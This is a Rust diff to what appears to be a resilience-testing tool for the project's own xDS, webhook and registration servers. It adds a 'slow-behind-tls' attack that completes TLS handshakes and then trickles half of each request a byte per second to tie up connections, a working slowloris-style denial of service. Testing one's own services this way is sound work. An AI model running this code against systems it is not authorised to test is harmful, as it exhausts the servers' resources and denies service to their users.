@@ -7,11 +7,11 @@ use std::time::Duration;
 use anyhow::{Context, Result};
 use futures::FutureExt;
 use rustls::pki_types::ServerName;
-use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
 
 use super::frames::{PREFACE, open, settings};
 use super::{crowd, from_elsewhere};
-use crate::dialer::{DELTA, hello};
+use crate::dialer::{DELTA, Dialer, hello};
 use crate::{Attack, Counts, Deadline, Tally, Target};
 
 pub(super) const ATTACKS: &[Attack] = &[
@@ -35,7 +35,15 @@ pub(super) const ATTACKS: &[Attack] = &[
         what: "400 connections to each port that say half of what is due there, and then nothing",
         run: |target, deadline| slowly(target, deadline, Some(usize::MAX)).boxed(),
     },
+    Attack {
+        name: "slow-behind-tls",
+        what: "100 connections to each port with TLS that finish the handshake and then say what is due, a byte in a second, or half of it",
+        run: |target, deadline| behind_tls(target, deadline).boxed(),
+    },
 ];
+
+/// Connections to each port with TLS: a handshake costs the attacker as much as the server.
+const EACH_WITH_TLS: usize = 100;
 
 /// Connections to each port.
 const EACH: usize = 400;
@@ -55,6 +63,34 @@ fn ports(target: &Target) -> Result<Vec<(SocketAddr, Arc<[u8]>)>> {
     ports.extend(target.webhook.map(|address| (address, hello)));
     ports.extend(target.registration.map(|address| (address, post[..].into())));
     Ok(ports)
+}
+
+/// What is due behind a handshake.
+fn behind(target: &Target) -> Result<Vec<(Dialer, Arc<[u8]>)>> {
+    let xds = [PREFACE, &settings(&[]), &open(1, DELTA, &[])].concat();
+    let review = b"POST /validate HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: 100\r\n\r\n{}";
+    let mut all = vec![(Dialer::nameless(target)?.from(66), xds.into())];
+    if let Some(address) = target.webhook {
+        all.push((Dialer::unchecked(address)?.from(66), review[..].into()));
+    }
+    Ok(all)
+}
+
+async fn behind_tls(target: Arc<Target>, deadline: Deadline) -> Result<Tally> {
+    let (counts, ports) = (Counts::new(), behind(&target)?);
+    let shared = counts.clone();
+    crowd(EACH_WITH_TLS * ports.len(), deadline, &counts, move |index| {
+        let (counts, port) = (shared.clone(), ports.get(index % ports.len()).cloned());
+        async move {
+            let (dialer, said) = port.context("there is a port")?;
+            let socket = dialer.dial().await?;
+            // Every other one says half of it at once.
+            let bytes = if index / 2 % 2 == 0 { 1 } else { usize::MAX };
+            say_half(socket, &said, Some(bytes), &counts).await
+        }
+    })
+    .await;
+    Ok(counts.tally())
 }
 
 async fn connections(target: Arc<Target>, deadline: Deadline) -> Result<Tally> {
@@ -84,28 +120,36 @@ async fn slowly(target: Arc<Target>, deadline: Deadline, bytes: Option<usize>) -
         let (counts, port) = (shared.clone(), ports.get(index % ports.len()).cloned());
         async move {
             let (address, said) = port.context("there is a port")?;
-            let mut socket = from_elsewhere(address).await?;
-            counts.answered();
-            counts.sent(0);
-            let half = said.get(..said.len() / 2).unwrap_or_default();
-            let mut pieces =
-                bytes.map(|bytes| half.chunks(bytes.min(half.len()).max(1))).into_iter().flatten();
-            let mut answer = [0; 1_024];
-            loop {
-                if let Some(piece) = pieces.next() {
-                    socket.write_all(piece).await.context("cannot send")?;
-                    counts.sent(piece.len());
-                }
-                let wait = tokio::time::timeout(Duration::from_secs(1), socket.read(&mut answer));
-                match wait.await {
-                    Err(_) => {}
-                    Ok(Ok(0)) => anyhow::bail!("closed"),
-                    Ok(Ok(_)) => counts.answered(),
-                    Ok(Err(error)) => anyhow::bail!("{}", error.kind()),
-                }
-            }
+            say_half(from_elsewhere(address).await?, &said, bytes, &counts).await
         }
     })
     .await;
     Ok(counts.tally())
+}
+
+/// Says half of what is due, so many bytes in a second, and then waits for the server to close.
+async fn say_half(
+    mut socket: impl AsyncRead + AsyncWrite + Unpin,
+    said: &[u8],
+    bytes: Option<usize>,
+    counts: &Counts,
+) -> Result<()> {
+    counts.answered();
+    counts.sent(0);
+    let half = said.get(..said.len() / 2).unwrap_or_default();
+    let mut pieces = bytes.map(|bytes| half.chunks(bytes.min(half.len()).max(1))).into_iter().flatten();
+    let mut answer = [0; 1_024];
+    loop {
+        if let Some(piece) = pieces.next() {
+            socket.write_all(piece).await.context("cannot send")?;
+            counts.sent(piece.len());
+        }
+        let wait = tokio::time::timeout(Duration::from_secs(1), socket.read(&mut answer));
+        match wait.await {
+            Err(_) => {}
+            Ok(Ok(0)) => anyhow::bail!("closed"),
+            Ok(Ok(_)) => counts.answered(),
+            Ok(Err(error)) => anyhow::bail!("{}", error.kind()),
+        }
+    }
 }
